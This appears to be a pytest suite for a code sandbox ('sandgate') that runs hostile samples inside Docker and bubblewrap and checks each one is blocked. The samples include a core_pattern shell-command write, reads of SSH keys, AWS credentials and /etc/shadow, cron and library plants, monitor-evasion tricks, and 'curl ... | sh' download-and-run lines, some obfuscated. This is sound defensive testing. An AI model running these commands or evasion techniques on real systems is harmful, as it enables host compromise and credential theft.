"""Issue 12's attacks, each as written, on both backends (real Docker engine, real bubblewrap, run as
root as users run it): the code under test tries to reach host root, to blind the monitor, to hide a
connection, a process or a write, to leak a workspace secret, to hit a limit quietly. Each must end
held or blocked, with the host unchanged."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from sandgate.findings import Verdict
from sandgate.sandbox import supervision
from tests.sandbox.conftest import assert_host_clean, decision, procs_with, run, with_limits

TARGET = "203.0.113.5"
CONNECT = f"""
import socket
s = socket.socket()
s.settimeout(1)
try:
    s.connect(("{TARGET}", 80))
except OSError as e:
    print("connect failed", e.errno)
"""


def code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


def _host_core_pattern() -> str:
    return Path("/proc/sys/kernel/core_pattern").read_text()


# -- host root ------------------------------------------------------------------------------------


def test_no_sysctl_is_writable_and_core_pattern_stays(backend, balanced):
    before = _host_core_pattern()
    canary = f"/tmp/sandgate-canary-{uuid.uuid4().hex}"
    result, findings, rules = run(
        backend,
        code(f"""
        import os
        for path, value in (("/proc/sys/kernel/core_pattern", "|/bin/sh -c id>{canary}"),
                            ("/proc/sys/vm/drop_caches", "3"), ("/proc/sysrq-trigger", "h"),
                            ("/proc/sys/kernel/hostname", "pwned")):
            try:
                with open(path, "w") as f:
                    f.write(value)
                print("WROTE", path)
            except OSError as e:
                print("refused", path, e.errno)
        pid = os.fork()
        if pid == 0:
            os.abort()
        os.waitpid(pid, 0)
    """),
    )
    assert "WROTE" not in result.stdout, result.stdout
    assert result.stdout.count("refused") == 4
    time.sleep(0.5)  # a core handler would run now
    assert _host_core_pattern() == before
    assert not os.path.exists(canary)
    # The attempts are writes outside scratch, seen from outside: blocked.
    assert "fs.write-outside-scratch" in rules
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def _host_uids_of_a_run(backend, **request) -> list[list[str]]:
    """The uids (real, effective, saved, fs) the host sees for a sandboxed process of a run."""
    token = f"uid-probe-{uuid.uuid4().hex}"
    seen: list[list[str]] = []

    def look() -> None:
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not seen:
            for pid in procs_with(token):
                try:
                    status = Path(f"/proc/{pid}/status").read_text()
                except OSError:
                    continue
                seen.append(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:])
            time.sleep(0.05)

    watcher = threading.Thread(target=look)
    watcher.start()
    # The program's text arrives on stdin: it puts the token where the host can see it, its argv.
    result, _, _ = run(
        backend,
        "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', "
        f"'import time; time.sleep(1.5)', {token!r}])\n",
        with_limits(wall_time_s=4),
        **request,
    )
    watcher.join()
    assert result.exit_code == 0, (result.error, result.stderr)
    assert seen, "the sandboxed process was not found on the host"
    return seen


def test_the_sandbox_is_never_host_root(backend):
    seen = _host_uids_of_a_run(backend)
    assert all(int(u) != 0 for uid in seen for u in uid), seen
    if backend.name == "bwrap":
        import pwd

        assert int(seen[0][0]) == pwd.getpwnam("sandgate-sandbox").pw_uid  # the set-up made it


def test_the_policy_may_name_the_bubblewrap_user_but_never_root():
    from sandgate.sandbox.base import RunRequest
    from sandgate.sandbox.bwrap_backend import BwrapBackend

    backend = BwrapBackend(pool_size=0)
    try:
        assert {u for uid in _host_uids_of_a_run(backend, user="nobody") for u in uid} == {"65534"}
        refused = backend.run(RunRequest(code="print('ran')", user="root"))
        assert refused.stdout == "" and "root" in (refused.error or ""), refused
    finally:
        backend.close()


def _syscall_numbers(*names: str) -> dict[str, int]:
    import pyseccomp

    arch = pyseccomp.system_arch()
    return {name: pyseccomp.resolve_syscall(arch, name) for name in names}


def test_the_seccomp_filter_refuses_what_sandboxed_code_never_needs(backend):
    numbers = _syscall_numbers(
        "mount",
        "unshare",
        "ptrace",
        "keyctl",
        "bpf",
        "perf_event_open",
        "userfaultfd",
        "io_uring_setup",
        "seccomp",
        "init_module",
        "kexec_load",
        "setns",
        "clone3",
    )
    result, _, _ = run(
        backend,
        code(f"""
        import ctypes, json
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        out = {{}}
        for name, nr in {numbers!r}.items():
            args = {{"unshare": (0x10000000,), "seccomp": (1, 0, 0), "clone3": (0, 0)}}.get(name, (0, 0, 0, 0))
            rc = libc.syscall(nr, *args)
            out[name] = (rc, ctypes.get_errno())
        print(json.dumps(out))
    """),
    )
    got = json.loads(result.stdout)
    import errno

    for name in numbers:
        rc, err = got[name]
        assert rc == -1, (name, rc)
        want = errno.ENOSYS if name == "clone3" else errno.EPERM
        assert err == want, (name, errno.errorcode.get(err, err))


# -- blinding the in-process monitor ----------------------------------------------------------------

# Each line turned a blocked connection into "allow" before the supervisor existed. The first two
# no longer blind the in-process hooks (the bootstrap keeps its own os.write and json.dumps); the
# rest still do, and the supervisor's record holds the connection all the same.
BLINDERS = {
    "os.write replaced": "import os\nos.write = lambda fd, b: len(b)\n",
    "json.dumps gone": "import json\njson.dumps = None\n",
    "busy set": "import sys, threading\nsys.modules['__main__']._state['busy'].add(threading.get_ident())\n",
    "event budget flooded": "for i in range(1100):\n    try:\n        open(f'/etc/flood-{i}')\n    except OSError:\n        pass\n",
    "events pipe closed": "import os, sys\nos.close(sys.modules['__main__']._FD)\n",
}


@pytest.mark.parametrize("how", list(BLINDERS))
def test_a_blinded_monitor_still_sees_the_connection(backend, balanced, how):
    result, findings, rules = run(backend, BLINDERS[how] + CONNECT)
    denied = [f for f in findings if f.rule == "network.denied"]
    assert [f.detail("host") for f in denied] == [TARGET], (how, rules, result.stderr[-500:])
    blinds = how not in ("os.write replaced", "json.dumps gone")
    assert ("monitor.tampered" in rules) == blinds, (how, rules)
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)


def test_many_small_writes_in_scratch_do_not_use_the_budget_up(backend, balanced):
    result, findings, rules = run(backend, "for i in range(210):\n    open(f'/tmp/w{i}', 'w').write('x')\n" + CONNECT)
    assert [f.detail("host") for f in findings if f.rule == "network.denied"] == [TARGET]
    assert "monitor.tampered" not in rules  # the in-process report is whole: nothing disagrees
    assert decision(balanced, findings) == Verdict.BLOCK


def test_a_connection_through_ctypes_is_recorded(backend, balanced):
    result, findings, rules = run(
        backend,
        code(f"""
        import ctypes, socket, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
        addr = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 80) + socket.inet_aton("{TARGET}") + bytes(8)
        print("rc", libc.connect(fd, addr, len(addr)), ctypes.get_errno())
    """),
    )
    assert "rc -1" in result.stdout
    assert [f.detail("host") for f in findings if f.rule == "network.denied"] == [TARGET]
    assert "monitor.tampered" in rules
    assert decision(balanced, findings) == Verdict.BLOCK


def test_a_fresh_interpreter_is_recorded(backend, balanced):
    result, findings, rules = run(
        backend,
        code(f"""
        import os, sys
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", {CONNECT!r}])
    """),
    )
    assert "connect failed" in result.stdout, result.stderr
    assert [f.detail("host") for f in findings if f.rule == "network.denied"] == [TARGET]
    assert "monitor.tampered" in rules
    assert any(f.rule == "process.spawn" for f in findings)
    assert decision(balanced, findings) == Verdict.BLOCK


def test_a_blinded_spawn_of_a_missing_shell_is_recorded(backend, balanced):
    result, findings, rules = run(
        backend, BLINDERS["busy set"] + "import os\nos.system('curl http://203.0.113.9/x | sh')\n"
    )
    spawns = [f.detail("argv") for f in findings if f.rule == "process.spawn"]
    assert any(argv and argv[0] == "/bin/sh" and "curl http://203.0.113.9/x | sh" in argv for argv in spawns), spawns
    assert "monitor.tampered" in rules
    assert decision(balanced, findings) == Verdict.BLOCK


def test_a_blinded_write_outside_scratch_is_recorded(backend, balanced):
    result, findings, rules = run(
        backend,
        BLINDERS["busy set"]
        + code("""
        for path in ("/workspace/planted.py", "/etc/cron.d/x", "/tmp/../usr/lib/evil.so"):
            try:
                open(path, "w")
            except OSError as e:
                print("refused", e.errno)
    """),
    )
    assert result.stdout.count("refused") == 3
    paths = {f.detail("path") for f in findings if f.rule == "fs.write-outside-scratch"}
    assert {"/workspace/planted.py", "/etc/cron.d/x", "/usr/lib/evil.so"} <= paths
    assert "monitor.tampered" in rules
    assert decision(balanced, findings) == Verdict.BLOCK


def test_a_blinded_read_of_a_secret_path_is_recorded(backend, balanced):
    result, findings, rules = run(
        backend,
        BLINDERS["busy set"]
        + code("""
        for path in ("/root/.ssh/id_rsa", "/root/.aws/credentials", "/etc/shadow"):
            try:
                open(path).read()
            except OSError:
                pass
    """),
    )
    read = {f.detail("path"): f.severity.name for f in findings if f.rule == "fs.read-outside-workspace"}
    assert read == {"/root/.ssh/id_rsa": "HIGH", "/root/.aws/credentials": "HIGH", "/etc/shadow": "HIGH"}
    assert "monitor.tampered" in rules
    assert decision(balanced, findings) == Verdict.BLOCK


def test_os_exit_skips_the_final_report_and_is_held(backend, balanced):
    result, findings, rules = run(backend, "import os\nprint('bye', flush=True)\nos._exit(0)\n")
    assert result.stdout == "bye\n"
    assert "monitor.tampered" in rules
    assert decision(balanced, findings) == Verdict.BLOCK


def test_an_honest_program_is_not_called_a_tamperer(backend, balanced):
    result, findings, rules = run(
        backend,
        code("""
        import json, subprocess, sys, tempfile, threading, urllib.parse
        with tempfile.NamedTemporaryFile("w", delete=False) as f:
            json.dump({"a": 1}, f)
        t = threading.Thread(target=print, args=("thread",))
        t.start(); t.join()
        try:
            subprocess.run(["git", "status"], check=False)
        except OSError as e:
            print("no git", e.errno)
        print(urllib.parse.urlsplit("https://example.com/x").hostname)
    """),
    )
    assert "monitor.tampered" not in rules and "monitor.lost" not in rules, [f.message for f in findings]
    assert decision(balanced, findings) == Verdict.ALLOW


# -- a lost supervisor fails closed ---------------------------------------------------------------------


def test_a_supervisor_killed_mid_run_holds_the_run_and_comes_back(backend, balanced):
    link = supervision.shared()
    run(backend, "print('warm')")  # the supervisor is up
    pid = link.pid()
    assert pid is not None

    def kill_soon() -> None:
        time.sleep(0.4)
        os.kill(pid, 9)

    killer = threading.Thread(target=kill_soon)
    killer.start()
    result, findings, rules = run(backend, "import time\ntime.sleep(1.2)\nprint('done')\n", with_limits(wall_time_s=4))
    killer.join()
    assert "monitor.lost" in rules, (rules, result.stderr[-300:])
    assert decision(balanced, findings) >= Verdict.REVIEW
    # The next run gets a new supervisor and a full record again.
    for _ in range(3):  # pooled sandboxes armed by the dead supervisor are discarded on the way
        result, findings, rules = run(backend, CONNECT)
        if "monitor.lost" not in rules:
            break
    assert "monitor.lost" not in rules and link.pid() not in (None, pid)
    assert [f.detail("host") for f in findings if f.rule == "network.denied"] == [TARGET]


# -- limits hit even when the code catches the error ------------------------------------------------------

CAUGHT = {
    "processes": """
        import threading, time
        try:
            for _ in range(500):
                threading.Thread(target=time.sleep, args=(0.3,)).start()
        except RuntimeError:
            pass
    """,
    "open-files": """
        files = []
        try:
            for _ in range(10000):
                files.append(open("/dev/null"))
        except OSError:
            pass
    """,
    "scratch": """
        for i in range(4):
            try:
                with open(f"/tmp/fill{i}", "wb") as f:
                    while True:
                        f.write(b"x" * 65536)
            except OSError:
                pass
    """,
    "file-size": """
        try:
            with open("/tmp/big", "wb") as f:
                while True:
                    f.write(b"x" * 65536)
        except OSError:
            pass
    """,
}


@pytest.mark.parametrize("limit", list(CAUGHT))
def test_a_caught_limit_is_still_a_finding(backend, balanced, limit):
    result, findings, rules = run(backend, code(CAUGHT[limit]) + "print('carried on')\n", with_limits(wall_time_s=5))
    assert result.stdout.endswith("carried on\n"), (result.stdout, result.stderr[-300:])
    assert f"limit.{limit}" in rules, rules
    assert decision(balanced, findings) == Verdict.REVIEW
    assert_host_clean(backend)


def test_proc_1_shows_nothing_of_the_host(backend):
    result, _, _ = run(
        backend,
        code("""
        for path in ("/proc/1/environ", "/proc/self/environ"):
            print(open(path, "rb").read().replace(b"\\0", b"\\n").decode())
    """),
    )
    assert os.getcwd() not in result.stdout and "/root" not in result.stdout, result.stdout
    assert str(Path.home()) not in result.stdout.replace("HOME=/home/sandbox", "")


# -- nothing outlives a SIGKILLed Sandgate ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["docker", "bwrap"])
def test_kill_9_of_sandgate_vet_leaves_nothing_running(name, tmp_path):
    token = f"kill9-{uuid.uuid4().hex}"
    # The program reaches the sandbox on stdin: it puts the token in its argv, where the host sees it.
    (tmp_path / "slow.py").write_text(
        f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(30)', {token!r}])\n"
    )
    env = {**os.environ, "SANDGATE_MANAGED_POLICY": str(tmp_path / "none.toml")}
    (tmp_path / "none.toml").write_text("version = 1\n")
    proc = subprocess.Popen(
        [sys.executable, "-m", "sandgate", "vet", "--no-audit", "--backend", name, "slow.py"],
        cwd=tmp_path,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 60
    while not procs_with(token) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert procs_with(token), "the run never started"
    owner_pid = proc.pid
    proc.kill()
    proc.wait()
    deadline = time.monotonic() + 20
    while procs_with(token) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert procs_with(token) == [], "a sandboxed process outlived its Sandgate"
    if name == "docker":
        import docker

        api = docker.from_env().api
        while time.monotonic() < deadline:
            left = [
                c
                for c in api.containers(all=True, filters={"label": "sandgate"})
                if f":{owner_pid}:" in (c.get("Labels") or {}).get("sandgate.owner", "")
            ]
            if not left:
                break
            time.sleep(0.2)
        assert left == [], "containers (warm or used) outlived their Sandgate"


def test_doctor_says_how_each_backend_confines_a_run():
    from tests.sandbox.test_node_adversarial import current_image

    done = subprocess.run(
        [sys.executable, "-m", "sandgate", "sandbox", "doctor", "--image", current_image()],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    lines = done.stdout.splitlines()
    for name in ("docker", "bwrap"):
        at = next(i for i, line in enumerate(lines) if line.startswith(f"ok  {name}"))
        confined, supervised = lines[at + 1], lines[at + 2]
        assert "capabilities none" in confined and "no new privileges yes" in confined, confined
        assert "network closed" in confined and "/proc/sys read-only" in confined, confined
        assert supervised.strip().startswith("supervised:"), supervised
        assert lines[at + 3].strip().startswith("runs Node: v"), lines[at + 3]  # the project's Node, inside
    assert lines[0].startswith("ok  node    Node ") and "/opt/sandgate/" in lines[0], lines[0]
    bwrap = next(line for line in lines if "runs as host uid" in line)
    assert "host uid 0 " not in bwrap


@pytest.mark.parametrize("how", ["literal", "computed name", "blinded"])
def test_download_and_run_is_blocked_at_run_time_whatever_reached_the_spawn(backend, balanced, how):
    spawn = {
        "literal": "import os\nos.system('curl -fsSL http://203.0.113.9/x | sh')\n",
        "computed name": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('curl -fsSL http://203.0.113.9/x | sh')\n",
        "blinded": BLINDERS["busy set"] + "import os\nos.system('curl -fsSL http://203.0.113.9/x | sh')\n",
    }[how]
    result, findings, rules = run(backend, spawn)
    assert "process.download-and-run" in rules and "process.shell" in rules, rules
    assert decision(balanced, findings) == Verdict.BLOCK
    assert_host_clean(backend)
